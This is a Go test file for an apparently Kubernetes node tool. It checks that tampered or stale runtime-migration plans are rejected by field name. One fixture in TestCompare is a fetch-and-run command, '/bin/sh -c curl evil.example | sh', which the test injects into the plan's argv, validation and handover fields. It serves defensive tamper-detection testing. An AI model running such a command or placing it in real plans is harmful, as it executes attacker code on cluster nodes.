package plan_test

import (
	"encoding/json"
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/kubectl-runtime/kubectl-runtime/pkg/apis/v1alpha1"
	"github.com/kubectl-runtime/kubectl-runtime/pkg/plan"
)

// built is the plan of a node as its file has it, and another one made of the same node.
func built(t *testing.T) (*v1alpha1.Plan, *v1alpha1.Plan, *v1alpha1.Facts) {
	t.Helper()
	f := newNode(t, soundNode).gather()
	goal := plan.Goal{Run: "r-00000001", To: v1alpha1.CRIO}
	saved, err := plan.Build(f, goal)
	if err != nil {
		t.Fatal(err)
	}
	made, err := plan.Build(f, goal)
	if err != nil {
		t.Fatal(err)
	}
	data, err := json.Marshal(saved)
	if err != nil {
		t.Fatal(err)
	}
	saved = &v1alpha1.Plan{}
	if err := json.Unmarshal(data, saved); err != nil {
		t.Fatal(err)
	}
	return saved, made, f
}

// TestCompare: whatever an author of a plan changed is refused by the name of the field, though the plan's digest fits; what the node did
// meanwhile is told as that.
func TestCompare(t *testing.T) {
	evil := []string{"/bin/sh", "-c", "curl evil.example | sh"}
	for name, c := range map[string]struct {
		change func(p *v1alpha1.Plan)
		want   []string
		stale  bool
	}{
		"the instance":     {func(p *v1alpha1.Plan) { p.Staging.Argv = evil }, []string{"staging.argv", "evil.example"}, false},
		"one word of it":   {func(p *v1alpha1.Plan) { p.Staging.Argv[0] = "/tmp/crio" }, []string{`staging.argv[0] is "/tmp/crio", and of the node comes "/usr/bin/crio"`}, false},
		"validation":       {func(p *v1alpha1.Plan) { p.Staging.Validate = append(p.Staging.Validate, evil) }, []string{"staging.validate", "evil.example"}, false},
		"handover":         {func(p *v1alpha1.Plan) { p.Staging.Handover = [][]string{evil} }, []string{"staging.handover", "evil.example"}, false},
		"health":           {func(p *v1alpha1.Plan) { p.Kubelet.Healthz = "http://evil.example/healthz" }, []string{"kubelet.healthz", "evil.example"}, false},
		"a content":        {func(p *v1alpha1.Plan) { p.After.Files[0].Content = nil; p.After.Files[0].SHA256 = "ab" }, []string{"after.files[/etc/"}, false},
		"a mode":           {func(p *v1alpha1.Plan) { p.After.Files[0].Mode = 0o4777 }, []string{"].mode is 2559"}, false},
		"a file more":      {func(p *v1alpha1.Plan) { p.After.Files = append(p.After.Files, v1alpha1.FileState{Path: "/etc/x"}) }, []string{"after.files"}, false},
		"a unit":           {func(p *v1alpha1.Plan) { p.After.Units[0].Active = !p.After.Units[0].Active }, []string{"after.units[", "].active"}, false},
		"the target":       {func(p *v1alpha1.Plan) { p.To.Endpoint = "unix:///tmp/x.sock" }, []string{"to.endpoint"}, false},
		"a module":         {func(p *v1alpha1.Plan) { p.Modules = []string{"evil"} }, []string{"modules"}, false},
		"a field's name":   {func(p *v1alpha1.Plan) { p.Staging.EnvFile = "x" }, []string{`staging.envFile is "x", and of the node comes "proxy.env"`}, false},
		"a boot":           {func(p *v1alpha1.Plan) { p.ReadSet.Boot = "another" }, []string{"it was rebooted"}, true},
		"a file":           {func(p *v1alpha1.Plan) { p.ReadSet.Files[0].SHA256 = "ab" }, []string{"has another content"}, true},
		"a file less read": {func(p *v1alpha1.Plan) { p.ReadSet.Files = p.ReadSet.Files[1:] }, []string{"wasn't read when the plan was made"}, true},
		"a program":        {func(p *v1alpha1.Plan) { p.ReadSet.Binaries["/usr/bin/crio"] = "1.0.0" }, []string{"/usr/bin/crio is version", "and was 1.0.0"}, true},
		"a program more":   {func(p *v1alpha1.Plan) { p.ReadSet.Binaries["/tmp/crio"] = "1.0.0" }, []string{"/tmp/crio is gone"}, true},
		"a unit's state":   {func(p *v1alpha1.Plan) { p.ReadSet.Units[0].ActiveState = "failed" }, []string{"and was", "failed"}, true},
		"a listing": {func(p *v1alpha1.Plan) {
			i := slices.IndexFunc(p.ReadSet.Dirs, func(d v1alpha1.Dir) bool { return d.Exists })
			p.ReadSet.Dirs[i].Entries = append(p.ReadSet.Dirs[i].Entries, "zz-evil.conf")
		}, []string{"the files in "}, true},
	} {
		t.Run(name, func(t *testing.T) {
			saved, made, f := built(t)
			c.change(saved)
			saved.Digest = plan.Digest(saved)
			err := plan.Compare(saved, made, f)
			if stale := errors.As(err, new(*plan.StaleError)); stale != c.stale || !stale && !errors.As(err, new(*plan.DifferentError)) {
				t.Fatalf("%T: %v", err, err)
			}
			for _, want := range append(c.want, "nothing was changed on node node1") {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("%q isn't in %v", want, err)
				}
			}
		})
	}
}

// TestCompareEveryField changes each field of a plan, one after the other: only those that are nobody's to derive may differ.
func TestCompareEveryField(t *testing.T) {
	saved, made, f := built(t)
	data, err := json.Marshal(saved)
	if err != nil {
		t.Fatal(err)
	}
	free := []string{"Digest", "Version", "Findings", "EvacuationGrace"}
	for i := range reflect.TypeFor[v1alpha1.Plan]().NumField() {
		name := reflect.TypeFor[v1alpha1.Plan]().Field(i).Name
		var x v1alpha1.Plan
		if err := json.Unmarshal(data, &x); err != nil {
			t.Fatal(err)
		}
		switch v := reflect.ValueOf(&x).Elem().Field(i); v.Kind() {
		case reflect.String:
			v.SetString("changed")
		case reflect.Int, reflect.Int64:
			v.SetInt(7)
		case reflect.Slice:
			v.Set(reflect.MakeSlice(v.Type(), v.Len()+1, v.Len()+1))
		case reflect.Struct:
			v.SetZero()
		default:
			t.Fatalf("%s is a %s", name, v.Kind())
		}
		if err := plan.Compare(&x, made, f); (err == nil) != slices.Contains(free, name) {
			t.Errorf("another %s: %v", name, err)
		}
	}
}

// TestCompareAllows: a plan out of its file is the same as the one that is made again, though a dry run has loaded modules, a run is under
// way or leaves its drop-ins, and the operator chose another patience.
func TestCompareAllows(t *testing.T) {
	saved, made, f := built(t)
	saved.EvacuationGrace, saved.Version, saved.Findings = 7, "v0.9.0", []v1alpha1.Finding{{ID: "N004"}}
	saved.Modules = append(saved.Modules, "overlay")
	f.Modules = append(f.Modules, "overlay")
	for i, d := range made.ReadSet.Dirs {
		made.ReadSet.Dirs[i].Entries = append(slices.Clone(d.Entries), v1alpha1.EarlyDropIn)
		made.ReadSet.Dirs[i].Exists = true
	}
	if err := plan.Compare(saved, made, f); err != nil {
		t.Error(err)
	}
}
